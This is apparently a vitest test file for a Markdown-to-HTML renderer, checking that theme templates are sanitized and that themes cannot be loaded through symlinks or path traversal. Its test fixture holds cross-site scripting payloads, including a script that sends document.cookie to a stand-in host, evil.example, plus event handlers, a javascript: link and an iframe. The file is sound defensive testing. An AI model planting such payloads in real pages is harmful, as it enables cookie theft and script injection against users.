/**
 * docs/security.md, "The final HTML passes the sanitizer": a theme's template.html is held to the same allowlist as a
 * post body, because it is filled in after the body was sanitized.
 */
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { resolveConfig } from '../../src/config/load.js';
import { renderMarkdown } from '../../src/render/render.js';
import { clearThemeCache, loadTheme } from '../../src/render/theme.js';

const HOSTILE = `<section class="wx-article" onclick="steal()" style="color:#333;behavior:url(x.htc)">
<script>fetch('https://evil.example/?c='+document.cookie)</script>
<a href="javascript:alert(1)">home</a>
<iframe src="https://evil.example/frame"></iframe>
<img src="x" onerror="alert(1)">
<style>p{color:red}</style>
{{content}}
<p class="wx-footer">— 完 —</p>
</section>`;

function hostileTheme(): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'wxmp-hostile-theme-'));
  mkdirSync(path.join(dir, 'hostile'));
  writeFileSync(path.join(dir, 'hostile', 'theme.css'), '.wx-article{color:#333}');
  writeFileSync(path.join(dir, 'hostile', 'template.html'), HOSTILE);
  return dir;
}

describe('theme templates are sanitized', () => {
  it('drops scripts, handlers, javascript: links, iframes and style tags, and keeps the placeholder and text', async () => {
    clearThemeCache();
    const theme = await loadTheme('hostile', hostileTheme());
    expect(theme.template).not.toMatch(/<script|onclick|onerror|javascript:|<iframe|<style|behavior/i);
    expect(theme.template).toContain('{{content}}');
    expect(theme.template).toContain('— 完 —');
    expect(theme.template).toContain('class="wx-article"');
  });

  it('the final article HTML holds nothing of them', async () => {
    clearThemeCache();
    const templatesDir = hostileTheme();
    const config = resolveConfig({ templatesDir, theme: 'hostile' });
    const rendered = await renderMarkdown('---\ntitle: t\n---\n\n正文 **加粗**\n', { config, baseDir: templatesDir });
    expect(rendered.html).toContain('<strong');
    expect(rendered.html).toContain('— 完 —');
    expect(rendered.html).not.toMatch(/<script|onclick|onerror|javascript:|<iframe|<style|evil\.example/i);
  });

  it('a template whose placeholder only lived in a dropped attribute is refused', async () => {
    clearThemeCache();
    const dir = mkdtempSync(path.join(tmpdir(), 'wxmp-theme-attr-'));
    mkdirSync(path.join(dir, 'attr'));
    writeFileSync(path.join(dir, 'attr', 'theme.css'), 'p{}');
    writeFileSync(path.join(dir, 'attr', 'template.html'), '<section onclick="{{content}}"></section>');
    await expect(loadTheme('attr', dir)).rejects.toThrow(/must contain \{\{content\}\} exactly once \(found 0\)/);
  });
});

describe('project themes are read from inside the project', () => {
  it('refuses a theme folder that is a symlink leaving the project', async () => {
    const { symlinkSync } = await import('node:fs');
    const { resolveTheme } = await import('../../src/render/resolve-theme.js');
    clearThemeCache();
    const outside = hostileTheme();
    const root = mkdtempSync(path.join(tmpdir(), 'wxmp-theme-root-'));
    mkdirSync(path.join(root, 'templates'));
    symlinkSync(path.join(outside, 'hostile'), path.join(root, 'templates', 'hostile'));
    const config = resolveConfig({ templatesDir: 'templates' });
    await expect(resolveTheme('hostile', root, config)).rejects.toThrow(/is a symlink to a file outside the project folder: not read/);
    // A name that is a path never reaches the file system: it falls through to the built-in themes and is unknown.
    await expect(resolveTheme('../outside', root, config)).rejects.toThrow(/Unknown theme/);
  });
});
